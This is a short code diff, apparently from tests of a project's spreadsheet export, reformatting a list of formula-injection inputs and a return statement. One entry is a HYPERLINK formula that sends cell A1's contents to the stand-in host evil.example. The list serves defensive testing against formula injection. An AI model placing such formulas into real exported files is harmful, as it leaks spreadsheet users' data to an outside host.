@@ -16,7 +16,7 @@ from kyokan.apps.core.models import AuditEvent, ExportJob
 
 # What people type that a spreadsheet would run, and what breaks files.
 FORMULAS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=1+1",
     "+1",
     "-1+2",
@@ -114,7 +114,8 @@ def _numbers(*, params, actor, progress):
             yield [i, f"=行{i}"]
 
     return exports.Built(
-        filename="numbers.xlsx", content=exports.xlsx_bytes([exports.Sheet("n", ["i", "v"], rows())])
+        filename="numbers.xlsx",
+        content=exports.xlsx_bytes([exports.Sheet("n", ["i", "v"], rows())]),
     )
 
 
